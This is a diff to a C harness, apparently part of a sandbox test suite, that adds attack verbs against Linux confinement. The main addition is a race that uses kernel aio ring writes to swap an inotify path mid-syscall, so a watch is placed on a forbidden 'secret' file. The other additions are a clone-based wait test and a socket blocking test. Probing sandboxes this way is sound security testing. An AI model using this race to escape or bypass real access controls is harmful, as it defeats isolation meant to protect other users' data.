@@ -6,12 +6,23 @@
  *   pairs PATH            the ends of Unix pairs send to a socket by its path
  *   floods COUNT          as many sockets at once, and then one that connects nowhere
  *   watches COUNT         asks for a watch while another thread waits in the kernel, as often
+ *   lays TRIES OPEN SECRET  the kernel lays the second name over the first while a watch is asked
+ *   blocks                a message waits for room beside a thread that waits: is it left alone?
  *   flies HOST PORT       sends by sockets that nobody had meanwhile: they lay in a message */
 #include "attack.h"
 
+#include <fcntl.h>
+#include <linux/aio_abi.h>
 #include <poll.h>
 #include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdatomic.h>
+#include <sys/epoll.h>
 #include <sys/inotify.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/timerfd.h>
 #include <sys/un.h>
 #include <sys/wait.h>
 
@@ -231,6 +242,25 @@ static void *wait_for_child(void *arg)
     return arg;
 }
 
+static char child_stack[65536];
+
+static int wait_in_child(void *arg)
+{
+    char byte;
+    (void)arg;
+    _exit(read(gate[0], &byte, 1) == 1 ? 0 : 1);
+}
+
+static void *wait_for_cloned_child(void *arg)
+{
+    int pidfd = -1;
+    blocked_tid = gettid();
+    clone(wait_in_child, child_stack + sizeof(child_stack),
+          CLONE_VM | CLONE_VFORK | CLONE_PIDFD | SIGCHLD, NULL, &pidfd);
+    close(pidfd);
+    return arg;
+}
+
 static char state_of(int tid)
 {
     char path[64], text[256] = "";
@@ -252,7 +282,7 @@ static pthread_t begin(void *(*run)(void *))
     blocked_tid = 0;
     pthread_create(&thread, NULL, run, NULL);
     while (blocked_tid == 0 || strchr("SD", state_of(blocked_tid)) == NULL ||
-           (run == send_until_blocked && poll(&p, 1, 0) > 0)) {
+           (run != wait_for_child && run != wait_for_cloned_child && poll(&p, 1, 0) > 0)) {
         sched_yield();
     }
     return thread;
@@ -271,11 +301,129 @@ static int watches(char **args)
     report("vfork", inotify_add_watch(group, ".", IN_CREATE));
     write(gate[1], "x", 1);
     pthread_join(thread, NULL);
+    thread = begin(wait_for_cloned_child);
+    report("clone", inotify_add_watch(group, ".", IN_CREATE));
+    write(gate[1], "x", 1);
+    pthread_join(thread, NULL);
     long bad = 0;
     for (long i = strtol(args[0], NULL, 10); i > 0; i--) {
         bad += inotify_add_watch(group, ".", IN_CREATE) < 0;
     }
     printf("bad %ld\n", bad);
+    return 0;
+}
+
+/* How many watches the group has that are not of this object. */
+static long strangers(int group, const char *path)
+{
+    char name[64], line[512];
+    long found = 0;
+    struct stat st = {0};
+    unsigned long ino;
+    snprintf(name, sizeof(name), "/proc/self/fdinfo/%d", group);
+    FILE *f = fopen(name, "r");
+    stat(path, &st);
+    while (f != NULL && fgets(line, sizeof(line), f) != NULL) {
+        found += sscanf(line, "inotify wd:%*x ino:%lx", &ino) == 1 && ino != st.st_ino;
+    }
+    if (f != NULL) {
+        fclose(f);
+    }
+    return found;
+}
+
+/* io_event.data, the first eight bytes of a slot of the ring (io_getevents(2)), is the path's last
+ * name: the slot of an event that comes within 800 us. */
+static void lay_over(int group, long tries, const char *open_path, const char *secret_path)
+{
+    size_t head = (size_t)(strrchr(open_path, '/') + 1 - open_path);
+    aio_context_t ctx = 0;
+    int timer = timerfd_create(CLOCK_MONOTONIC, 0);
+    syscall(SYS_io_setup, 64, &ctx);
+    unsigned *ring = (unsigned *)ctx; /* id, nr, head, tail, ... 32 bytes */
+    for (long i = 0; i < tries && ring != NULL; i++) {
+        struct iocb cb = {.aio_lio_opcode = IOCB_CMD_POLL, .aio_buf = POLLIN};
+        struct iocb *list = &cb;
+        struct itimerspec soon = {.it_value = {0, 1 + i % 400 * 2000}};
+        struct io_event event;
+        unsigned tail = ring[3];
+        char *slot = (char *)ring + 32 + 32 * (size_t)tail;
+        bool room = 32 * (size_t)tail >= head;
+        if (room) {
+            memset(slot, 0, 32);
+            memcpy(slot - head, open_path, head);
+            memcpy(slot, open_path + head, strlen(open_path + head));
+        }
+        memcpy(&cb.aio_data, secret_path + head, strlen(secret_path + head));
+        cb.aio_fildes = (unsigned)timer;
+        timerfd_settime(timer, 0, &soon, NULL);
+        syscall(SYS_io_submit, ctx, 1, &list);
+        int wd = room ? inotify_add_watch(group, slot - head, IN_CREATE) : -1;
+        if (wd >= 0 && strangers(group, open_path) > 0) {
+            return;
+        }
+        if (wd >= 0) {
+            inotify_rm_watch(group, wd);
+        }
+        syscall(SYS_io_getevents, ctx, 1L, 1L, &event, NULL);
+        read(timer, &(uint64_t){0}, sizeof(uint64_t));
+    }
+}
+
+/* By a child, which leaves what it got to its parent. */
+static int lays(char **args)
+{
+    int group = inotify_init1(0);
+    pid_t pid = fork();
+    if (pid == 0) {
+        lay_over(group, strtol(args[0], NULL, 10), args[1], args[2]);
+        _exit(0);
+    }
+    waitpid(pid, NULL, 0);
+    printf("strangers %ld\n", strangers(group, args[1]));
+    return 0;
+}
+
+static void *send_much(void *arg)
+{
+    static char data[1 << 20];
+    struct iovec iov = {data, sizeof(data)};
+    struct msghdr m = {NULL, 0, &iov, 1, NULL, 0, 0};
+    blocked_tid = gettid();
+    while (iov.iov_len > 0) {
+        ssize_t n = sendmsg(way[0], &m, MSG_NOSIGNAL);
+        if (n < 0) {
+            report("sendmsg", -1);
+            break;
+        }
+        iov.iov_len -= (size_t)n;
+    }
+    shutdown(way[0], SHUT_WR);
+    return arg;
+}
+
+/* Waits that end by themselves against those that are broken off: which are ten, or a thousand,
+ * first. */
+static int blocks(char **args)
+{
+    struct epoll_event event;
+    long whole = 0, broken = 0, got = 0;
+    static char data[65536];
+    int epoll = epoll_create1(0);
+    (void)args;
+    socketpair(AF_UNIX, SOCK_STREAM, 0, way);
+    pthread_t thread = begin(send_much);
+    while (whole < 10 && broken < 1000) {
+        int r = epoll_wait(epoll, &event, 1, 20);
+        whole += r == 0;
+        broken += r < 0 && errno == EINTR;
+    }
+    printf("waits %s\n", whole == 10 ? "whole" : "broken");
+    for (ssize_t n; (n = read(way[1], data, sizeof(data))) != 0;) {
+        got += n > 0 ? n : 0;
+    }
+    pthread_join(thread, NULL);
+    printf("got %ld\n", got);
     return 0;
 }
 
@@ -287,7 +435,8 @@ int main(int argc, char **argv)
         int (*run)(char **args);
     } verbs[] = {{"closes", 2, closes},     {"rebinds", 1, rebinds}, {"fd_sends", 2, fd_sends},
                  {"accepted", 0, accepted}, {"pairs", 1, pairs},     {"floods", 1, floods},
-                 {"flies", 2, flies},       {"watches", 1, watches}};
+                 {"flies", 2, flies},       {"watches", 1, watches}, {"lays", 3, lays},
+                 {"blocks", 0, blocks}};
     for (size_t i = 0; i < sizeof(verbs) / sizeof(verbs[0]); i++) {
         if (argc == 2 + verbs[i].args && strcmp(argv[1], verbs[i].verb) == 0) {
             return verbs[i].run(argv + 2);
